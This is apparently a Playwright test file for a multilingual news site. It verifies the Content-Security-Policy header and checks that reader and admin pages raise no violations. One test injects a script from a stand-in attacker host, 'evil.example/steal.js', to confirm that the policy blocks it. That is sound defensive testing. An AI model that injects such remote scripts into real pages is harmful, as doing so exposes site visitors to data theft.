import { expect, test, type Page } from '@playwright/test';
import { articleIdByKey } from './content';
import { DEMO_EDITOR, signInToAdmin } from './users';

/**
 * The Content-Security-Policy (next.config.ts) is on every page, and no page of the site breaks it: Chromium reports
 * each violation as a `securitypolicyviolation` event, recorded here from before the page's first script.
 */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  const console: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) console.push(message.text());
  });
  return async () => [...(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)), ...console];
}

test('reader pages carry the policy and break none of it', async ({ page, request }) => {
  const violations = await watchViolations(page);
  const article = `/ru/news/${await articleIdByKey('aliyev-kazakhstan-visit')}`;
  for (const path of ['/ru', '/az/latest', '/en/category/economy', article, '/en/search?q=baku', '/ru/no-such-page']) {
    await page.goto(path);
    // Scroll to the end, so that every lazy picture and the view beacon have had their turn.
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    await page.waitForLoadState('networkidle');
    expect(await violations(), path).toEqual([]);
  }
  const policy = (await request.get('/ru')).headers()['content-security-policy'];
  expect(policy).toContain("script-src 'self' 'unsafe-inline'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("frame-ancestors 'self'");
  expect(policy).toContain('frame-src https://www.youtube-nocookie.com');
});

test('a script from another site is refused by the policy', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/en');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js';
    document.head.append(script);
  });
  await expect.poll(violations).toContainEqual(expect.stringMatching(/^script-src(-elem)? https:\/\/evil\.example\/steal\.js$/));
});

test('the newsroom breaks none of the policy: sign-in, lists, the editor, the media library', async ({ browser }) => {
  const page = await signInToAdmin(browser, DEMO_EDITOR);
  const violations = await watchViolations(page);
  const id = await articleIdByKey('aliyev-kazakhstan-visit');
  const nonces = new Set<string>();
  for (const path of ['/admin', `/admin/articles/${id}?lang=en`, '/admin/media', '/admin/rates', '/admin/breaking']) {
    const response = await page.goto(path);
    // Strict: scripts run by this request's nonce alone, never because they are inline.
    const policy = response!.headers()['content-security-policy']!;
    expect(policy, path).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{24}' 'strict-dynamic'/);
    expect(policy.split('; ').find((directive) => directive.startsWith('script-src')), path).not.toContain('unsafe-inline');
    nonces.add(/'nonce-([^']+)'/.exec(policy)![1]!);
    await page.waitForLoadState('networkidle');
    expect(await violations(), path).toEqual([]);
  }
  // A new nonce for every page.
  expect(nonces.size).toBe(5);
  await page.context().close();
});
